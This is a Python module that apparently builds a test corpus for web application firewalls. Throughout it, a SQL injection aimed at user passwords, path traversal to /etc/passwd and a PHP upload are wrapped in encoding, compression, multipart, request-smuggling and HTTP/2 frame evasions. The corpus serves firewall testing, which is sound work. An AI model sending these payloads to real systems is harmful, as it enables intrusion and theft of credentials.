"""Attacks in forms that a web application firewall may fail to recognise, for HTTP/1.1 and HTTP/2, by name.

`HTTP1` has requests as bytes, each for a connection of its own. `HTTP2` has requests for a `Http2Client`, and `Frames`
that such a client does not make, to be sent behind its preface and settings. Those of `UNREADABLE` are malformed or
ambiguous, so no proxy should say what they mean; a firewall can judge all others. Everything but the attack and its
form is as a browser sends it, so nothing else is a reason to refuse a request.
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, HeadersFrame, PriorityFrame

HOST = "orders.shop.test"
ATTACK = "' UNION SELECT password FROM users--"
QUERY = f"/items?id={quote(ATTACK)}"
BODY = f"q={quote(ATTACK)}"
FORM = "Content-Type: application/x-www-form-urlencoded"
_BROWSER = ("User-Agent: Mozilla/5.0", "Accept: */*")


def request(line: str, *lines: str, body: bytes = b"") -> bytes:
    """A request of HTTP/1.1 with the fields of a browser; `lines` without their CRLF."""
    head = "\r\n".join([f"{line} HTTP/1.1", f"Host: {HOST}", *_BROWSER, *lines, "", ""])
    return head.encode("latin-1") + body


def post(body: bytes | str, *lines: str, kind: str = FORM, path: str = "/search") -> bytes:
    """A POST whose length is announced."""
    body = body.encode() if isinstance(body, str) else body
    return request(f"POST {path}", *([kind] if kind else []), f"Content-Length: {len(body)}", *lines, body=body)


def chunks(body: bytes | str, size: int, *, extension: str = "", trailers: str = "") -> bytes:
    """A chunked body in pieces of this size."""
    body = body.encode() if isinstance(body, str) else body
    pieces = [body[at : at + size] for at in range(0, len(body), size)]
    made = b"".join(b"%x%b\r\n%b\r\n" % (len(each), extension.encode(), each) for each in pieces)
    return made + b"0\r\n" + trailers.encode() + b"\r\n"


def chunked(body: bytes | str, size: int, *lines: str, **options: str) -> bytes:
    """A POST with a chunked body."""
    return request("POST /search", FORM, "Transfer-Encoding: chunked", *lines, body=chunks(body, size, **options))


def form(*lines: str, body: bytes = BODY.encode()) -> bytes:
    """A POST of a form with these fields; none is added that says how long it is."""
    return request("POST /search", FORM, *lines, body=body)


def _raw_deflate(body: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(body) + packer.flush()


def part(text: str, *, head: str = 'Content-Disposition: form-data; name="q"', end: str = "\r\n") -> str:
    """A part of a multipart body."""
    return f"--edge{end}{head}{end}{end}{text}{end}"


def multipart(*parts: str, boundary: str = "boundary=edge", last: str = "--edge--\r\n") -> bytes:
    """A POST with a multipart body."""
    return post("".join(parts) + last, kind=f"Content-Type: multipart/form-data; {boundary}")


def _json(text: bytes | str, kind: str = "application/json") -> bytes:
    return post(text, kind=f"Content-Type: {kind}")


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(each):04x}" for each in text)


def _bodies() -> Iterator[tuple[str, bytes]]:
    body = BODY.encode()
    yield "chunked", chunked(BODY, 4096)
    yield "chunks of one byte", chunked(BODY, 1)
    yield "chunk extensions", chunked(BODY, 7, extension=';name="value"')
    yield "chunked with trailers", chunked(BODY, 9, "Trailer: X-End", trailers="X-End: 1\r\n")
    yield "chunk sizes with zeros in front", chunked(BODY, 5).replace(b"\r\n5\r\n", b"\r\n0000005\r\n")
    yield "an attack behind 60 KiB", post("pad=" + "x" * 60_000 + "&" + BODY)
    yield "an attack behind the limit", post("pad=" + "x" * 70_000 + "&" + BODY)
    yield "an attack behind 300 fields", post("".join(f"f{n}=1&" for n in range(300)) + BODY)
    for name, made in (
        ("gzip", gzip.compress(body)),
        ("x-gzip", gzip.compress(body)),
        ("deflate", zlib.compress(body)),
    ):
        yield name, post(made, f"Content-Encoding: {name}")
    yield "raw deflate", post(_raw_deflate(body), "Content-Encoding: deflate")
    yield "gzip, chunked", chunked(gzip.compress(body), 3, "Content-Encoding: gzip")
    yield "gzip in gzip", post(gzip.compress(gzip.compress(body)), "Content-Encoding: gzip, gzip")
    yield "gzip in upper case", post(gzip.compress(body), "Content-Encoding: GZIP")
    yield "two members of gzip", post(gzip.compress(b"a=1&") + gzip.compress(body), "Content-Encoding: gzip")
    yield "gzip in two fields", post(gzip.compress(gzip.compress(body)), *["Content-Encoding: gzip"] * 2)
    yield "gzip that is cut", post(gzip.compress(body)[:-9], "Content-Encoding: gzip")
    yield "gzip that is none", post(body, "Content-Encoding: gzip")
    yield (
        "much that is little in gzip",
        post(gzip.compress(b"a=" + b"x" * 5_000_000 + b"&" + body), "Content-Encoding: gzip"),
    )
    yield "an encoding that nobody knows", post(body, "Content-Encoding: br")
    yield "an encoding with another name", post(body, "Content_Encoding: gzip")
    yield "the identity", post(body, "Content-Encoding: identity")
    yield "a head that asks first", post(body, "Expect: 100-continue")
    upgrade = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA")
    yield "Upgrade: h2c", request(f"GET {QUERY}", *upgrade)
    yield "Upgrade: h2c with a body", post(BODY, *upgrade)


def _texts() -> Iterator[tuple[str, bytes]]:
    yield "a query", request(f"GET {QUERY}")
    yield "a form", post(BODY)
    yield "URL encoding twice", request(f"GET /items?id={quote(quote(ATTACK))}")
    yield "URL encoding twice in a form", post(f"q={quote(quote(ATTACK))}")
    yield "all bytes encoded", request("GET /items?id=" + "".join(f"%{byte:02x}" for byte in ATTACK.encode()))
    yield "%u encoding", request("GET /items?id=" + "".join(f"%u{ord(each):04x}" for each in ATTACK))
    yield "full width", request(f"GET /items?id={quote(ATTACK.replace(chr(39), chr(0xFF07)))}")
    yield "comments for blanks", request(f"GET /items?id={quote(ATTACK.replace(' ', '/**/'))}")
    yield "mixed case", request(f"GET /items?id={quote(''.join(map(str.swapcase, ATTACK)))}")
    yield "tabs and line feeds", request(f"GET /items?id={quote(ATTACK.replace(' ', chr(9) + chr(10)))}")
    yield "a zero byte", request(f"GET /items?id=1%00{quote(ATTACK)}")
    yield "an empty name", request(f"GET /items?={quote(ATTACK)}")
    yield "a name", request(f"GET /items?{quote(ATTACK)}=1")
    yield "without a name", request(f"GET /items?{quote(ATTACK)}")
    yield "a name twice", request(f"GET /items?id=1&id={quote(ATTACK)}")
    yield "an absolute target", request(f"GET http://{HOST}{QUERY}")
    yield "a cookie", request("GET /items", f"Cookie: id={quote(ATTACK)}")
    yield "a path out of the root", request("GET /static/..%2f..%2f..%2fetc/passwd")
    yield "a path out of the root, encoded twice", request("GET /items?file=..%252f..%252f..%252fetc%252fpasswd")
    yield "JSON", _json(json.dumps({"q": ATTACK}))
    yield "JSON with escapes", _json('{"q": "' + _escaped(ATTACK) + '"}')
    yield "JSON with a name", _json(json.dumps({ATTACK: 1}))
    yield "JSON, deep", _json('{"a": [' * 20 + json.dumps(ATTACK) + "]}" * 20)
    yield "JSON, deeper than is read", _json('{"a": [' * 200 + json.dumps(ATTACK) + "]}" * 200)
    yield "JSON with a name twice", _json('{"q": ' + json.dumps(ATTACK) + ', "q": 1}')
    yield "JSON with another type", _json(json.dumps({"q": ATTACK}), "APPLICATION/JSON; charset=utf-8")
    yield "JSON as a form", post(json.dumps({"q": ATTACK}))
    yield "a form as JSON", _json(BODY)
    yield "XML", post(f"<q>{ATTACK}</q>", kind="Content-Type: application/xml")
    yield "a form as text", post(BODY, kind="Content-Type: text/plain")
    yield "two types", post(BODY, "Content-Type: text/plain")
    yield "a type in upper case", post(BODY, kind=FORM.replace("form-urlencoded", "FORM-urlencoded"))
    for charset in ("utf-16", "utf-16le", "utf-7", "utf-32", "cp037"):
        yield f"a form in {charset}", post(BODY.encode(charset), kind=f"{FORM}; charset={charset}")
    yield "JSON in UTF-16", _json(json.dumps({"q": ATTACK}).encode("utf-16"))
    yield (
        "XML in UTF-16",
        post(
            f'<?xml version="1.0" encoding="UTF-16"?><q>{ATTACK}</q>'.encode("utf-16"),
            kind="Content-Type: application/xml",
        ),
    )


def _multiparts() -> Iterator[tuple[str, bytes]]:
    named = 'Content-Disposition: form-data; name="q"'
    yield "multipart", multipart(part(ATTACK))
    yield "multipart, quoted boundary", multipart(part(ATTACK), boundary='boundary="edge"')
    yield "multipart, boundary in upper case", multipart(part(ATTACK), boundary="BOUNDARY=edge")
    yield "multipart, two boundaries", multipart(part(ATTACK), boundary="boundary=other; boundary=edge")
    yield "multipart, another boundary", multipart(part(ATTACK), boundary="boundary=other")
    yield "multipart, no boundary", multipart(part(ATTACK), boundary="charset=utf-8")
    yield "multipart without its end", multipart(part(ATTACK), last="")
    yield "multipart with line feeds only", multipart(part(ATTACK, end="\n"), last="--edge--\n")
    yield "multipart, two lines of one name", multipart(part(ATTACK, head=f"{named}\r\n{named}"))
    yield "multipart, folded", multipart(part(ATTACK, head='Content-Disposition: form-data;\r\n name="q"'))
    yield "multipart, name without quotes", multipart(part(ATTACK, head="Content-Disposition: form-data; name=q"))
    yield "multipart, name in other quotes", multipart(part(ATTACK, head="Content-Disposition: form-data; name='q'"))
    yield "multipart, two names", multipart(part(ATTACK, head=f'{named}; name="r"'))
    yield "multipart, attack as a name", multipart(part("1", head=f'Content-Disposition: form-data; name="{ATTACK}"'))
    yield "multipart, script as a file", multipart(part("<?php 1;", head=f'{named}; filename="a.php"'))
    encoded = base64.b64encode(ATTACK.encode()).decode()
    yield "multipart, base64", multipart(part(encoded, head=f"{named}\r\nContent-Transfer-Encoding: base64"))
    wide = f"{named}\r\nContent-Type: text/plain; charset=utf-16"
    yield "multipart, UTF-16", multipart(part(ATTACK.encode("utf-16-le").decode(), head=wide))
    yield "multipart, behind another", multipart(part("x" * 3000), part(ATTACK))
    yield "multipart, behind its end", multipart(part("1"), last="--edge--\r\n" + part(ATTACK) + "--edge--\r\n")
    yield "multipart, before its begin", multipart(f"{ATTACK}\r\n", part("1"))
    mixed = f"{named}\r\nContent-Type: multipart/mixed; boundary=in"
    yield "multipart, related", multipart(part(ATTACK)).replace(b"multipart/form-data", b"multipart/related")
    yield "multipart, nested", multipart(part(f"--in\r\n{named}\r\n\r\n{ATTACK}\r\n--in--", head=mixed))


def _framing() -> Iterator[tuple[str, bytes]]:
    smuggled = chunks("a=1", 3) + request(f"GET {QUERY}")
    both = ("Content-Length: 8", "Transfer-Encoding: chunked")
    yield "CL and TE", form(*both, body=smuggled)
    yield "TE and CL", form(*reversed(both), body=smuggled)
    yield "two lengths", form("Content-Length: 3", f"Content-Length: {len(BODY)}")
    for name, coding in (
        ("a blank before the colon", "Transfer-Encoding : chunked"),
        ("another coding", "Transfer-Encoding: xchunked"),
        ("a coding twice", "Transfer-Encoding: chunked, chunked"),
        ("a coding before chunked", "Transfer-Encoding: gzip, chunked"),
        ("a vertical tab", "Transfer-Encoding:\x0bchunked"),
        ("identity", "Transfer-Encoding: identity"),
    ):
        yield f"Transfer-Encoding with {name}", form(coding, body=chunks(BODY, 4096))
    yield "a length with a sign", form(f"Content-Length: +{len(BODY)}")
    yield "a length in hexadecimal", form(f"Content-Length: 0x{len(BODY):x}")
    yield "obs-fold", request(f"GET {QUERY}", "X-Folded: a\r\n b")
    yield "obs-fold of a coding", form("Transfer-Encoding:\r\n chunked", body=chunks(BODY, 4096))
    yield "line feeds only", request(f"GET {QUERY}").replace(b"\r\n", b"\n")
    yield "a carriage return alone", request(f"GET {QUERY}", "X-Odd: a\rX-More: b")
    yield "a zero byte in a field", request(f"GET {QUERY}", "X-Odd: a\0b")
    yield "two hosts", request(f"GET {QUERY}", "Host: other.shop.test")
    yield "a chunk that is no number", chunked(BODY, 4096).replace(b"\r\n\r\n", b"\r\n\r\nx", 1)
    yield "a chunk of a negative size", form(both[1], body=b"-1\r\n" + BODY.encode())
    yield "another version", request(f"GET {QUERY}").replace(b"HTTP/1.1", b"HTTP/1.2", 1)
    yield "blanks in the request line", request(f"GET  {QUERY}")
    yield "a target with a fragment", request(f"GET {QUERY}#end")


HTTP1 = {**dict(_texts()), **dict(_bodies()), **dict(_multiparts())}
HTTP1_UNREADABLE = dict(_framing())


@dataclass(frozen=True)
class Frames:
    """Frames as they are sent, of stream 1."""

    wire: bytes


@dataclass(frozen=True)
class Request2:
    """A request of HTTP/2: path, fields, and DATA frames; without any it ends with its head."""

    path: str
    fields: tuple[tuple[str, str], ...] = ()
    data: tuple[bytes, ...] = ()


_FORM2 = (("content-type", "application/x-www-form-urlencoded"),)


def _of(body: bytes, *fields: tuple[str, str], size: int = 16384) -> Request2:
    return Request2("/search", (*_FORM2, *fields), tuple(body[at : at + size] for at in range(0, len(body), size)))


_REQUESTS: dict[str, Request2 | Frames] = {
    "a query": Request2(QUERY),
    "a query, encoded twice": Request2(f"/items?id={quote(quote(ATTACK))}"),
    "a form": _of(BODY.encode()),
    "frames of one byte": _of(BODY.encode(), size=1),
    "gzip": _of(gzip.compress(BODY.encode()), ("content-encoding", "gzip")),
    "gzip in frames of one byte": _of(gzip.compress(BODY.encode()), ("content-encoding", "gzip"), size=1),
    "an encoding that nobody knows": _of(BODY.encode(), ("content-encoding", "br")),
    "a cookie": Request2("/items", (("cookie", "a=1"), ("cookie", f"id={quote(ATTACK)}"))),
    "behind the limit": _of(b"pad=" + b"x" * 70_000 + b"&" + BODY.encode()),
    "a length that is too short": _of(BODY.encode(), ("content-length", "3")),
    "gRPC in a query": Request2(QUERY, (("content-type", "application/grpc"), ("te", "trailers"))),
}


def _head(*fields: tuple[str, str], method: str = "GET", path: str = QUERY, huffman: bool = True) -> bytes:
    pseudo = ((":method", method), (":scheme", "https"), (":path", path), (":authority", HOST))
    return Encoder().encode([*pseudo, ("user-agent", "Mozilla/5.0"), ("accept", "*/*"), *fields], huffman=huffman)


def _frames(*frames: Frame) -> Frames:
    return Frames(b"".join(frame.serialize() for frame in frames))


def _split(block: bytes, size: int) -> Frames:
    """A head in a HEADERS frame and CONTINUATION frames of this size."""
    pieces = [block[at : at + size] for at in range(0, len(block), size)]
    made: list[Frame] = [HeadersFrame(1, pieces[0], flags=["END_STREAM"])]
    made += [ContinuationFrame(1, each) for each in pieces[1:]]
    made[-1].flags.add("END_HEADERS")
    return _frames(*made)


_WHOLE = ["END_HEADERS", "END_STREAM"]
_FRAMES: dict[str, Request2 | Frames] = {
    "CONTINUATION": _split(_head(), 20),
    "CONTINUATION of one byte": _split(_head(), 1),
    "empty CONTINUATION": _frames(
        HeadersFrame(1, b"", flags=["END_STREAM"]), ContinuationFrame(1, _head()[:9]), ContinuationFrame(1, b""),
        ContinuationFrame(1, _head()[9:], flags=["END_HEADERS"]),
    ),
    "without Huffman": _frames(HeadersFrame(1, _head(huffman=False), flags=_WHOLE)),
    "a padded head": _frames(HeadersFrame(1, _head(), pad_length=99, flags=[*_WHOLE, "PADDED", "PRIORITY"])),
    "padded DATA": _frames(
        HeadersFrame(1, _head(*_FORM2, method="POST", path="/search"), flags=["END_HEADERS"]),
        *(DataFrame(1, BODY[at : at + 3].encode(), pad_length=50, flags=["PADDED"]) for at in range(0, len(BODY), 3)),
        DataFrame(1, b"", flags=["END_STREAM"]),
    ),
    "empty DATA": _frames(
        HeadersFrame(1, _head(*_FORM2, method="POST", path="/search"), flags=["END_HEADERS"]),
        *(DataFrame(1, data) for at in range(0, len(BODY), 9) for data in (b"", BODY[at : at + 9].encode())),
        DataFrame(1, b"", flags=["END_STREAM"]),
    ),
}  # fmt: skip
HTTP2 = {**_REQUESTS, **_FRAMES}
HTTP2_UNREADABLE: dict[str, Request2 | Frames] = {
    "a coding of HTTP/1": _of(chunks(BODY, 4096), ("transfer-encoding", "chunked")),
    "a field of connections": Request2(QUERY, (("connection", "close"),)),
    "a name in upper case": Request2(QUERY, (("X-Odd", "1"),)),
    "a line feed in a value": Request2(QUERY, (("x-odd", "a\nb: c"),)),
    "a frame between CONTINUATIONs": _frames(
        HeadersFrame(1, _head()[:9], flags=["END_STREAM"]), PriorityFrame(3),
        ContinuationFrame(1, _head()[9:], flags=["END_HEADERS"]),
    ),
    "two paths": _frames(HeadersFrame(1, _head((":path", "/")), flags=_WHOLE)),
}  # fmt: skip
